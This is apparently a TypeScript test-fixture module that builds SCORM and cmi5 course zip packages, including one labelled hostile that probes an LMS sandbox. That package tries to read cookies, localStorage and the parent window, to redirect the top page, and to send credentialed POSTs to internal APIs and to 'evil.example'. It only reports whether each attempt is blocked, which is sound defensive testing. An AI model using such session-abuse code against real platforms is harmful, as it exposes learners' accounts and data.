import { readFileSync } from 'node:fs'
import { strToU8, zipSync } from 'fflate'

/** Manifests as written by the packager @liascript/simple-scorm-packager for the files below. */
const manifest = (version: '1.2' | '2004') =>
  readFileSync(new URL(`manifest-${version}.xml`, import.meta.url), 'utf8')

const zip = (files: Record<string, string>): Buffer =>
  Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)]))))

/** The API search and the calls of a typical old course, in both versions of SCORM. */
const course = (version: '1.2' | '2004') => `
var names = ${
  version === '1.2'
    ? '{api:"API",init:"LMSInitialize",get:"LMSGetValue",set:"LMSSetValue",commit:"LMSCommit",end:"LMSFinish",place:"cmi.core.lesson_location",status:"cmi.core.lesson_status",score:"cmi.core.score.raw",learner:"cmi.core.student_name",exit:"cmi.core.exit"}'
    : '{api:"API_1484_11",init:"Initialize",get:"GetValue",set:"SetValue",commit:"Commit",end:"Terminate",place:"cmi.location",status:"cmi.completion_status",score:"cmi.score.scaled",learner:"cmi.learner_name",exit:"cmi.exit"}'
};
function findAPI(win) {
  var tries = 0;
  while (win[names.api] == null && win.parent != null && win.parent != win && tries++ < 7) win = win.parent;
  return win[names.api];
}
var api = findAPI(window);
var show = function (id, text) { document.getElementById(id).textContent = text };
window.onload = function () {
  show('started', api[names.init](''));
  show('learner', api[names.get](names.learner));
  show('place', api[names.get](names.place) || 'the start');
  show('notes', api[names.get]('cmi.suspend_data') || 'none');
  localStorage.setItem('seen', 'yes');
  fetch('js/data.json').then(function (r) { return r.json() }).then(function (d) { show('data', d.text) });
  document.getElementById('next').onclick = function () {
    api[names.set](names.place, 'page 2');
    api[names.set]('cmi.suspend_data', 'visited=1,2');
    show('place', 'page 2');
  };
  document.getElementById('finish').onclick = function () {
    api[names.set](names.score, '${version === '1.2' ? '90' : '0.9'}');
    api[names.set](names.status, 'completed');
    show('saved', api[names.commit](''));
  };
};
window.onunload = function () {
  api[names.set](names.exit, 'suspend');
  api[names.end]('');
};`

const page = `<!DOCTYPE html><html lang="en"><head><title>Pumps</title><meta name="viewport" content="width=device-width">
<link rel="stylesheet" href="media/style.css"><script src="js/course.js"></script></head><body>
<h1>Pump basics</h1><p>Hello <b id="learner"></b>. Session: <b id="started"></b>. You are at <b id="place"></b>, notes
<b id="notes"></b>, data <b id="data"></b>, saved <b id="saved">not yet</b>.</p>
<button id="next">Next page</button> <button id="finish">Finish</button><iframe src="frame.html" title="Inner"></iframe></body></html>`

const frame = `<!DOCTYPE html><html lang="en"><head><title>Inner</title></head><body><p id="inner"></p><script>
document.getElementById('inner').textContent = window.API || window.API_1484_11 ? 'API found' : 'no API'</script></body></html>`

const files = (version: '1.2' | '2004') => ({
  'index.html': page,
  'frame.html': frame,
  'js/course.js': course(version),
  'js/data.json': '{"text":"loaded"}',
  'media/style.css':
    'body{font-family:sans-serif;padding:1rem}button{min-height:44px}iframe{width:100%;height:4rem;border:0}',
})

export const oldCourse = (version: '1.2' | '2004'): Buffer =>
  zip({ 'imsmanifest.xml': manifest(version), ...files(version) })

/** A package that tries to use the learner's session, and shows what it could do. */
export const hostileCourse = (): Buffer =>
  zip({
    'imsmanifest.xml': manifest('1.2'),
    ...files('1.2'),
    'index.html': `<!DOCTYPE html><html lang="en"><head><title>Evil</title></head><body><pre id="out"></pre><script>
var real = document.getElementById('out'), found = [];
function attempt(name, work) { try { found.push(name + ': ' + work()) } catch (e) { found.push(name + ': blocked') } }
attempt('cookies', function () { return document.cookie === '' ? 'blocked' : 'read' });
attempt('parent', function () { return window.top.document.title });
attempt('storage', function () { return localStorage.length === 0 ? 'blocked' : 'read' });
attempt('move', function () { window.top.location = 'about:blank'; return 'moved' });
attempt('frame', function () { return window.top.frames[0] === window ? 'blocked' : 'other' });
var calls = ['/api/learning/getCourses', '/api/accounts/me', 'https://evil.example/'].map(function (url) {
  return fetch(url, { method: 'POST', credentials: 'include', body: 'a=1' }).then(function () { return 'reached' }, function () { return 'blocked' })
});
calls.push(new Promise(function (done) {
  var picture = new Image(); picture.onload = function () { done('reached') }; picture.onerror = function () { done('blocked') };
  picture.src = '/api/learning/getCourses?' + Math.random();
}));
Promise.all(calls).then(function (all) {
  window.top.postMessage({ mark: 'permeate-package', kind: 'values', values: { 'window.name': 'x' }, ended: true, now: true }, '*');
  window.top.postMessage('hello', '*');
  real.textContent = found.concat(all).join('\\n') + '\\ndone';
});
</script></body></html>`,
  })

/** An assignable unit of cmi5 that completes and passes at the press of a button. */
export const cmi5Course = (): Buffer =>
  zip({
    'cmi5.xml': `<courseStructure xmlns="https://w3id.org/xapi/profiles/cmi5/v1/CourseStructure.xsd">
<course id="https://old.example/c"><title><langstring lang="en">Pump basics</langstring></title></course>
<au id="https://old.example/au" moveOn="CompletedAndPassed" masteryScore="0.7"><title><langstring lang="en">Pump basics</langstring></title>
<url>index.html</url></au></courseStructure>`,
    'index.html': `<!DOCTYPE html><html lang="en"><head><title>Pumps</title></head><body><p id="state">starting</p>
<button id="finish">Finish</button><script>
var query = new URLSearchParams(location.search), headers = { 'content-type': 'application/json', 'x-experience-api-version': '1.0.3' };
var actor = JSON.parse(query.get('actor')), store = query.get('endpoint');
function call(method, path, body) { return fetch(store + path, { method: method, headers: headers, body: body && JSON.stringify(body) }) }
function say(verb, result) {
  return call('POST', 'statements', { actor: actor, verb: { id: 'http://adlnet.gov/expapi/verbs/' + verb },
    object: { id: query.get('activityId') }, context: { registration: query.get('registration') }, result: result });
}
fetch(query.get('fetch'), { method: 'POST' }).then(function (r) { return r.json() }).then(function (d) {
  headers.authorization = 'Basic ' + d['auth-token'];
  return call('GET', 'activities/state?stateId=LMS.LaunchData');
}).then(function (r) { return r.json() }).then(function (d) {
  return say('initialized').then(function () { document.getElementById('state').textContent = 'mode ' + d.launchMode });
});
document.getElementById('finish').onclick = function () {
  say('completed').then(function () { return say('passed', { score: { scaled: 0.8 } }) })
    .then(function () { return say('terminated') }).then(function () { document.getElementById('state').textContent = 'sent' });
};
</script></body></html>`,
  })
